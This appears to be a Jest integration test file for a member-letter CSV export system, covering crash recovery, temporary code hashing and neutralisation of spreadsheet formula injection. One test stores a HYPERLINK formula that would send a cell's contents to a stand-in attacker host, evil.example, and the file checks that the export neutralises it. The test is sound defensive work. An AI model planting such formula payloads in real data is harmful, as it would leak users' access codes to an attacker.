import { mkdtemp, readdir, readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeEach, describe, expect, it } from '@jest/globals';
import { DynamoLetterStore } from '../../lambdas/adapters/dynamo/letter-store.ts';
import { DynamoMemberRepository } from '../../lambdas/adapters/dynamo/member-repository.ts';
import type { Table } from '../../lambdas/adapters/dynamo/table.ts';
import { LocalHmacKey } from '../../lambdas/adapters/keys/local-key-files.ts';
import { LocalLetterFiles } from '../../lambdas/adapters/letters/local-letter-files.ts';
import { CodeHasher, OWASP_MINIMUM } from '../../lambdas/domain/code-hashing.ts';
import type { LetterFiles, LetterStore } from '../../lambdas/domain/letters.ts';
import { csvField, LetterExport, LetterQueue, temporaryCodeFor } from '../../lambdas/domain/letters.ts';
import { liveCodes } from '../../lambdas/domain/member.ts';
import { importMemberRecord } from '../../lambdas/domain/member-row.ts';
import { nirLookupKey } from '../../lambdas/domain/nir.ts';
import { newId } from '../../lambdas/domain/random-secrets.ts';
import { silentEvents } from '../support/in-memory.ts';
import { memberRow } from '../support/member-rows.ts';
import { uniqueNir } from '../support/members.ts';
import { prepareTestEnvironment } from '../support/test-environment.ts';

let table: Table;
// A table per test: each sees only its own letters, and runs alone.
beforeEach(async () => {
  ({ table } = await prepareTestEnvironment());
});

const events = silentEvents;
const clock = { now: () => Date.now() };
const nirHasher = new LocalHmacKey(Buffer.alloc(32, 5));
const pepper = new LocalHmacKey(Buffer.alloc(32, 6));
const codeHasher = new CodeHasher(pepper, OWASP_MINIMUM);

class InjectedCrash extends Error {}

/** Lets `method` of `target` succeed `after` times, then throws: a process dying between two steps. */
function crashing<T extends object>(target: T, method: keyof T, after: number): T {
  let calls = 0;
  return new Proxy(target, {
    get(t, property, receiver) {
      const value = Reflect.get(t, property, receiver) as unknown;
      if (property !== method || typeof value !== 'function')
        return typeof value === 'function' ? value.bind(t) : value;
      return async (...args: unknown[]) => {
        if (calls++ >= after) throw new InjectedCrash(`crash before ${String(method)} #${calls}`);
        return (value as (...a: unknown[]) => unknown).apply(t, args);
      };
    },
  });
}

async function membersWithLetters(count: number) {
  const members = new DynamoMemberRepository(table);
  const queue = new LetterQueue({ letters: new DynamoLetterStore(table), clock, events });
  const keys: string[] = [];
  for (let i = 0; i < count; i++) {
    const nir = uniqueNir();
    await importMemberRecord(
      memberRow({ nir, lastName: `Nom${i}`, firstName: 'Prénom', email: '', addressLine1: `${i} rue, "bis"` }),
      { members, nirHasher, codeHasher, clock, initialCodeValidDays: 365 },
    );
    const key = await nirLookupKey(nirHasher, nir);
    expect(await queue.request((await members.get(key))!, 'MEMBER', `r${i}`)).toBe('QUEUED');
    keys.push(key);
  }
  return { members, keys };
}

function exporter(dir: string, overrides: { letters?: LetterStore; files?: LetterFiles } = {}) {
  return new LetterExport({
    letters: overrides.letters ?? new DynamoLetterStore(table),
    files: overrides.files ?? new LocalLetterFiles(dir),
    members: new DynamoMemberRepository(table),
    codeHasher,
    codeDeriver: pepper,
    clock,
    events,
  });
}

/** Every data row of every final export file in `dir`. */
async function exportedRows(dir: string): Promise<string[][]> {
  const files = (await readdir(dir)).filter((f) => f.endsWith('.csv'));
  const rows: string[][] = [];
  for (const file of files) {
    const lines = (await readFile(join(dir, file), 'utf8')).trim().split('\r\n');
    expect(lines[0]).toBe(
      'letterId,lastName,firstName,addressLine1,addressLine2,postalCode,city,country,temporaryCode,requestedAt,validUntil',
    );
    rows.push(...lines.slice(1).map((l) => l.match(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)!.map((f) => f.replace(/,$/, ''))));
  }
  return rows;
}

describe('letter export against DynamoDB Local', () => {
  it('exports every pending letter once; a re-run finds nothing and writes no file', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'letters-'));
    const { members, keys } = await membersWithLetters(3);
    const first = await exporter(dir).run();
    expect(first.exported).toBe(3);
    const second = await exporter(dir).run();
    expect(second).toEqual({ files: [], exported: 0, cancelled: 0 });
    expect((await readdir(dir)).filter((f) => f.endsWith('.csv'))).toHaveLength(1);

    const rows = await exportedRows(dir);
    for (const key of keys) {
      const member = (await members.get(key))!;
      // The current (initial) code still works beside the temporary one.
      expect(liveCodes(member, Date.now()).map((c) => c.kind)).toEqual(['INITIAL', 'TEMPORARY']);
      expect(member.letterOutstandingId).toBeUndefined();
      const row = rows.find((r) => r[1] === member.lastName)!;
      expect(row[3]).toBe(`"${member.address!.line1.replace(/"/g, '""')}"`);
      const index = await codeHasher.matchAny(await codeHasher.pepper(row[8]!), [member.temporaryCodeHash]);
      expect(index).toBe(0);
    }
  });

  const crashPoints: Array<[string, 'letters' | 'files', string, number]> = [
    ['while claiming, after the first letter', 'letters', 'claim', 1],
    ['before the file is written', 'files', 'write', 0],
    ['after the file, before any letter is committed', 'letters', 'commit', 0],
    ['after the file, half-way through the commits', 'letters', 'commit', 2],
  ];

  it.each(crashPoints)(
    'a crash %s, then a re-run: every letter exported exactly once, every working code in a file',
    async (_when, where, method, after) => {
      const dir = await mkdtemp(join(tmpdir(), 'letters-'));
      const { members, keys } = await membersWithLetters(4);

      const store = new DynamoLetterStore(table);
      const files = new LocalLetterFiles(dir);
      const broken =
        where === 'letters'
          ? exporter(dir, { letters: crashing<LetterStore>(store, method as keyof LetterStore, after) })
          : exporter(dir, { files: crashing<LetterFiles>(files, method as keyof LetterFiles, after) });
      await expect(broken.run()).rejects.toThrow(InjectedCrash);
      await exporter(dir).run();
      expect((await exporter(dir).run()).exported).toBe(0);

      const rows = await exportedRows(dir);
      for (const key of keys) {
        const member = (await members.get(key))!;
        const memberRows = rows.filter((r) => r[1] === member.lastName);
        expect(memberRows).toHaveLength(1);
        expect(member.temporaryCodeHash).toBeDefined();
        expect(await codeHasher.matchAny(await codeHasher.pepper(memberRows[0]![8]!), [member.temporaryCodeHash])).toBe(
          0,
        );
      }
      // No partial file is ever left as a final one.
      expect((await readdir(dir)).every((f) => f.endsWith('.csv') || f.endsWith('.partial'))).toBe(true);
    },
  );

  it('a formula in a name or an address (imported before the rule) reaches the print file neutralised', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'letters-formula-'));
    const members = new DynamoMemberRepository(table);
    const key = newId();
    const formula = '=HYPERLINK("https://evil.example/?x="&I2,"Cliquez")';
    await members.upsertProfile(
      {
        key,
        newMemberId: newId(),
        newCodeSalt: codeHasher.newSalt(),
        firstName: '@SUM(1)',
        lastName: formula,
        maskedNir: 'x',
        address: { line1: '+33 rue', line2: '-', postalCode: '75001', city: 'Paris', country: 'FR' },
      },
      Date.now(),
    );
    await new LetterQueue({ letters: new DynamoLetterStore(table), clock, events }).request(
      (await members.get(key))!,
      'CUSTOMER_SERVICE',
      'r',
    );
    await exporter(dir).run();
    const rows = await exportedRows(dir);
    expect(rows).toHaveLength(1);
    const [row] = rows;
    expect(row!.slice(1, 5)).toEqual([`"'${formula.replace(/"/g, '""')}"`, "'@SUM(1)", "'+33 rue", "'-"]);
    // No field of the file starts with what a spreadsheet reads as a formula.
    for (const field of row!) expect(field.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
    expect(row![0]).toMatch(/^L/);
  });

  it('csvField neutralises every formula start, and quotes what needs quoting', () => {
    expect(['=1', '+1', '-1', '@1', '\t1', '\r1', '012345', 'a,b', 'say "hi"'].map(csvField)).toEqual([
      "'=1",
      "'+1",
      "'-1",
      "'@1",
      "'\t1",
      `"'\r1"`,
      '012345',
      '"a,b"',
      '"say ""hi"""',
    ]);
  });

  it('derives the same temporary code for a letter on every run, and a different one per letter', async () => {
    const a = await temporaryCodeFor(pepper, 'letter-a');
    expect(await temporaryCodeFor(pepper, 'letter-a')).toBe(a);
    expect(await temporaryCodeFor(pepper, 'letter-b')).not.toBe(a);
    expect(await temporaryCodeFor(new LocalHmacKey(Buffer.alloc(32, 9)), 'letter-a')).not.toBe(a);
  });
});
